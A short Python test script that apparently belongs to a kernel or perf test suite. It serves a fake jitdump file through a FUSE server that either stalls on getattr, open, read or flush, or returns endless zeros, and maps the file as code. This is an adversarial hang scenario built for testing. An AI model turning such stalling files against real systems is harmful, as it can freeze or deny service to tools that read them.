# SPDX-License-Identifier: GPL-2.0-only
"""A jitdump behind a FUSE server that does not answer, or without end: HOW."""

import os
import struct

import attack
import fuse

HEADER = struct.pack("<6I2Q", 0x4A695444, 1, 40, 62, 0, os.getpid(), 1, 0)


def zeros(offset, size):
    """A header, and nothing but zeros."""
    return (HEADER[offset:] + bytes(size))[:size]


HOW = {
    "stat": {"silent": [fuse.GETATTR], "size": 1 << 20, "read": zeros},
    "open": {"silent": [fuse.OPEN], "size": 1 << 20, "read": zeros},
    "read": {"silent": [fuse.READ], "size": 1 << 20},
    "close": {"silent": [fuse.FLUSH], "size": 1 << 20, "read": zeros},
    "endless": {"size": 1 << 60, "read": zeros},
}

fuse.File(**HOW[attack.ARGUMENTS[0]])
attack.activate_unnamed()
held = os.open(attack.DUMP, os.O_RDONLY)
attack.map_as_code(held)
attack.ready()
attack.spin()
